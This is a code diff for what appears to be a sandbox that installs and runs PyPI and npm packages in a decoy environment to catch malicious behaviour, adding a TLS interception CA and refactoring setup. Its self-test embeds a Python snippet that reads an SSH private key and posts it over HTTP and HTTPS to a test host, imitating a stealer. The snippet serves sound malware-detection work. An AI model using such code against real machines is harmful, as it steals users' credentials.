@@ -117,7 +117,7 @@ Expected<std::string, std::string> name_pypi_archive(const std::string& path) {
 }
 
 DetonationDirs dirs_for(const std::string& w) {
-  return {w + "/home", w + "/tmp", w + "/venv", w + "/npm-cache"};
+  return {w + "/home", w + "/tmp", w + "/venv", w + "/npm-cache", w + "/tls"};
 }
 
 std::vector<std::string> base_environment(const DetonationDirs& d, const std::string& canary, const std::string& path) {
@@ -126,7 +126,11 @@ std::vector<std::string> base_environment(const DetonationDirs& d, const std::st
                                   // glibc's resolver over TCP (the observer answers every stream to
                                   // port 53), whatever resolv.conf an engine or the kubelet mounted,
                                   // and a name asked as written, not with a cluster's search suffixes.
-                                  "RES_OPTIONS=use-vc attempts:1 timeout:2 ndots:1"};
+                                  "RES_OPTIONS=use-vc attempts:1 timeout:2 ndots:1",
+                                  // The sink's CA (tls_sink.h), for OpenSSL (Python's ssl, curl),
+                                  // requests, curl and Node; the room's own bundle is a link to it.
+                                  "SSL_CERT_FILE=" + d.tls + "/ca.pem", "REQUESTS_CA_BUNDLE=" + d.tls + "/ca.pem",
+                                  "CURL_CA_BUNDLE=" + d.tls + "/ca.pem", "NODE_EXTRA_CA_CERTS=" + d.tls + "/ca.pem"};
   for (std::string& b : bait_environment(canary)) env.push_back(std::move(b));
   utsname u{};
   for (std::string& w : windows_environment(d.home, ::uname(&u) == 0 ? u.nodename : "builder-pc", "builder")) {
@@ -146,6 +150,9 @@ PhaseSpec pypi_install(const DetonationOptions& o, const DetonationDirs& d, cons
             "--no-index",
             "--no-deps",
             "--no-build-isolation",
+            // The room's Python is Debian 12's 3.11: a package that says it needs another is
+            // still installed, as a package that lies about it would be on the victim's machine.
+            "--ignore-requires-python",
             "--no-cache-dir",
             "--disable-pip-version-check",
             "--no-input",
@@ -201,7 +208,11 @@ PhaseSpec pypi_import(const DetonationOptions& o, const DetonationDirs& d, const
   s.phase = "import";
   s.program = d.venv + "/bin/python";
   // The module's name is an argument, never part of the code.
-  s.argv = {s.program, "-c", "import importlib, sys; importlib.import_module(sys.argv[1])", module};
+  if (o.import_script.empty()) {
+    s.argv = {s.program, "-c", "import importlib, sys; importlib.import_module(sys.argv[1])", module};
+  } else {
+    s.argv = {s.program, o.import_script, module};
+  }
   s.env = env;
   s.env.push_back("PYTHONDONTWRITEBYTECODE=1");
   s.cwd = d.tmp;
@@ -271,34 +282,72 @@ PhaseSpec npm_require(const DetonationOptions& o, const DetonationDirs& d, const
   return s;
 }
 
-Expected<Trace, std::string> self_test(const DetonationOptions& o) {
-  const DetonationDirs d = dirs_for(o.work_dir);
-  for (const std::string& p : std::vector<std::string>{d.home, d.tmp}) {
+namespace {
+
+// What every run starts with: its directories, a canary, the decoy home planted with it, the
+// observer, and the observer's CA certificate where the phases' clients are told to find it.
+struct Prepared {
+  std::string canary;
+  std::unique_ptr<Observer> observer;
+};
+
+Expected<Prepared, std::string> prepare(const DetonationDirs& d, std::vector<std::string> dirs,
+                                        std::vector<std::string> write_roots) {
+  dirs.push_back(d.tls);
+  for (const std::string& p : dirs) {
     if (auto ok = make_dir(p); !ok) return Unexpected(ok.error());
   }
+  Prepared p;
   auto canary = make_canary();
   if (!canary) return Unexpected(canary.error());
-  if (auto ok = plant(d.home, *canary); !ok) return Unexpected(ok.error());
-  auto observer = Observer::create({d.home, *canary, {d.tmp}});
+  p.canary = std::move(*canary);
+  if (auto ok = plant(d.home, p.canary); !ok) return Unexpected(ok.error());
+  ObserverOptions oo;
+  oo.home = d.home;
+  oo.canary = p.canary;
+  oo.write_roots = std::move(write_roots);
+  auto observer = Observer::create(oo);
   if (!observer) return Unexpected(observer.error());
-  Observer& obs = **observer;
+  p.observer = std::move(*observer);
+  p.observer->trace().home = d.home;
+  const std::string ca = d.tls + "/ca.pem";
+  base::Fd f(::open(ca.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC | O_NOFOLLOW, 0644));
+  if (!f.valid() || !base::write_all(f.get(), p.observer->tls_ca_pem())) {
+    return Unexpected("writing the sink's CA certificate to " + ca + ": " + std::strerror(errno));
+  }
+  return p;
+}
+
+}  // namespace
+
+Expected<Trace, std::string> self_test(const DetonationOptions& o) {
+  const DetonationDirs d = dirs_for(o.work_dir);
+  auto prepared = prepare(d, {d.home, d.tmp}, {d.tmp});
+  if (!prepared) return Unexpected(prepared.error());
+  Observer& obs = *prepared->observer;
   obs.trace().ecosystem = "self-test";
-  obs.trace().home = d.home;
   PhaseSpec s;
   s.phase = "self-test";
   s.program = o.python;
+  // The helper does what a stealer does: starts a shell, reads the decoy key, asks a name and
+  // posts the key to it, over HTTP and over HTTPS (the client trusting what the room says).
   s.argv = {"python3", "-c",
-            "import os, socket\n"
+            "import os, socket, ssl\n"
             "os.system('true')\n"
             "key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
             "host = '" +
                 std::string(kSelfTestHost) +
                 "'\n"
+                "post = b'POST /self-test HTTP/1.1\\r\\nHost: ' + host.encode() + b'\\r\\nContent-Length: ' + "
+                "str(len(key)).encode() + b'\\r\\n\\r\\n' + key\n"
                 "s = socket.create_connection((host, 80), timeout=5)\n"
-                "s.sendall(b'POST /self-test HTTP/1.1\\r\\nHost: ' + host.encode() + b'\\r\\nContent-Length: ' + "
-                "str(len(key)).encode() + b'\\r\\n\\r\\n' + key)\n"
-                "s.recv(64)\n"};
-  s.env = base_environment(d, *canary, "/usr/local/bin:/usr/bin:/bin");
+                "s.sendall(post)\n"
+                "s.recv(64)\n"
+                "t = ssl.create_default_context().wrap_socket(socket.create_connection((host, 443), timeout=5), "
+                "server_hostname=host)\n"
+                "t.sendall(post)\n"
+                "t.recv(64)\n"};
+  s.env = base_environment(d, prepared->canary, "/usr/local/bin:/usr/bin:/bin");
   s.cwd = d.tmp;
   s.timeout = o.import_timeout;
   obs.run(s);
@@ -307,27 +356,16 @@ Expected<Trace, std::string> self_test(const DetonationOptions& o) {
 
 Expected<Trace, std::string> detonate(const DetonationOptions& o) {
   const DetonationDirs d = dirs_for(o.work_dir);
-  for (const std::string& p : std::vector<std::string>{d.home, d.tmp, d.cache}) {
-    if (auto ok = make_dir(p); !ok) return Unexpected(ok.error());
-  }
-  auto canary = make_canary();
-  if (!canary) return Unexpected(canary.error());
-  if (auto ok = plant(d.home, *canary); !ok) return Unexpected(ok.error());
-  ObserverOptions oo;
-  oo.home = d.home;
-  oo.canary = *canary;
-  oo.write_roots = {d.tmp, d.cache, o.ecosystem == Ecosystem::kPyPI ? d.venv : o.package};
-  if (o.ecosystem == Ecosystem::kPyPI) {
-    if (auto ok = make_dir(d.venv); !ok) return Unexpected(ok.error());
-  }
-  auto observer = Observer::create(oo);
-  if (!observer) return Unexpected(observer.error());
-  Observer& obs = **observer;
-  obs.trace().home = d.home;
+  std::vector<std::string> dirs = {d.home, d.tmp, d.cache};
+  if (o.ecosystem == Ecosystem::kPyPI) dirs.push_back(d.venv);
+  auto prepared = prepare(d, dirs, {d.tmp, d.cache, o.ecosystem == Ecosystem::kPyPI ? d.venv : o.package});
+  if (!prepared) return Unexpected(prepared.error());
+  Observer& obs = *prepared->observer;
+  const std::string& canary = prepared->canary;
 
   if (o.ecosystem == Ecosystem::kPyPI) {
     obs.trace().ecosystem = "pypi";
-    const auto env = base_environment(d, *canary, d.venv + "/bin:/usr/local/bin:/usr/bin:/bin");
+    const auto env = base_environment(d, canary, d.venv + "/bin:/usr/local/bin:/usr/bin:/bin");
     PhaseSpec venv;
     venv.phase = "prepare";
     venv.program = o.python;
@@ -348,7 +386,9 @@ Expected<Trace, std::string> detonate(const DetonationOptions& o) {
     if (installed.exit_code == 0) {
       if (auto sp = site_packages(d.venv)) {
         const auto modules = installed_modules(*sp, o.max_modules);
-        for (const std::string& m : modules) obs.run(pypi_import(o, d, env, m));
+        DetonationOptions io = o;
+        if (::access(io.import_script.c_str(), R_OK) != 0) io.import_script.clear();
+        for (const std::string& m : modules) obs.run(pypi_import(io, d, env, m));
         if (::access(kExecuteScript, R_OK) == 0) {
           for (const std::string& m : modules) obs.run(pypi_execute(o, d, env, m));
         }
@@ -368,7 +408,7 @@ Expected<Trace, std::string> detonate(const DetonationOptions& o) {
   const bool binding_gyp = ::lstat((o.package + "/binding.gyp").c_str(), &gyp) == 0 && S_ISREG(gyp.st_mode);
   auto pkg = read_npm_package(bytes->bytes, binding_gyp);
   if (!pkg) return Unexpected(o.package + "/package.json: " + pkg.error());
-  auto env = base_environment(d, *canary, o.package + "/node_modules/.bin:/usr/local/bin:/usr/bin:/bin");
+  auto env = base_environment(d, canary, o.package + "/node_modules/.bin:/usr/local/bin:/usr/bin:/bin");
   // The room's stand-in for a dependency the package requires and the room lacks
   // (rooms/behavior/fallback.js); where it is missing (a test's host root) Node says so and
   // runs nothing.
